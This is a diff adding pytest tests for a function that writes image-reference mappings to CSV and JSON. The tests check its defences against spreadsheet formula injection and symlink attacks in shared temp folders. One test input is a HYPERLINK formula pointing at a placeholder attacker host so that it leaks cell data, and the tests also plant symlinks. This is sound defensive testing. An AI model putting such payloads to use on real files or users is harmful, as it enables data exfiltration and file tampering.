@@ -1,0 +1,53 @@
+"""Lists of references are whole, and hold nothing that acts on whoever opens them."""
+
+import csv
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from tasks.stores import mapping_files
+from tasks.stores.mapping_files import write_rows
+
+NEW = "registry.example/app:v1@sha256:0"
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/"&A1)', "+1", "-1", "@SUM(A1)", "\t=1"])
+def test_a_name_is_no_formula_in_a_spreadsheet(tmp_path: Path, name: str) -> None:
+    rows = [{"old": f"{name}:v1", "new": NEW}]
+    for ending in ("csv", "json"):
+        write_rows(tmp_path / f"list.{ending}", rows, {})
+    with (tmp_path / "list.csv").open(newline="") as file:
+        assert list(csv.DictReader(file)) == [{"old": f"'{name}:v1", "new": NEW}]
+    assert json.loads((tmp_path / "list.json").read_bytes())["references"] == rows
+
+
+def test_a_name_makes_no_row_of_its_own(tmp_path: Path) -> None:
+    write_rows(tmp_path / "list.csv", [{"old": "a\r=1\nb:v1", "new": NEW}], {})
+    with (tmp_path / "list.csv").open(newline="") as file:
+        assert list(csv.DictReader(file)) == [{"old": "a\\r=1\nb:v1", "new": NEW}]
+
+
+def test_other_names_are_written_as_they_are(tmp_path: Path) -> None:
+    rows = [{"old": f"{name}:v1", "new": NEW} for name in ("/mnt/a", "s3://b/-c", "team/app", "a,b", "'x", "größe")]
+    write_rows(tmp_path / "list.csv", rows, {})
+    with (tmp_path / "list.csv").open(encoding="utf-8", newline="") as file:
+        assert list(csv.DictReader(file)) == rows
+
+
+def test_a_list_is_written_through_no_link_that_somebody_foresaw(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """In a folder that others write to, such as one for temporary files."""
+    monkeypatch.setattr(mapping_files.os, "getpid", lambda: 7)
+    (tmp_path / "only mine").write_text("kept")
+    for token in ("7", "seen"):
+        (tmp_path / f".list.csv.{token}.tmp").symlink_to(tmp_path / "only mine")
+    write_rows(tmp_path / "list.csv", [{"old": "a", "new": "b"}], {})
+    assert (tmp_path / "only mine").read_text() == "kept"
+    assert not (tmp_path / "list.csv").is_symlink()
+    monkeypatch.setattr(mapping_files.secrets, "token_hex", lambda _: "seen")
+    with pytest.raises(mapping_files.ConfigurationError, match=os.strerror(17)):
+        write_rows(tmp_path / "list.csv", [{"old": "a", "new": "c"}], {})
+    assert (tmp_path / "only mine").read_text() == "kept"
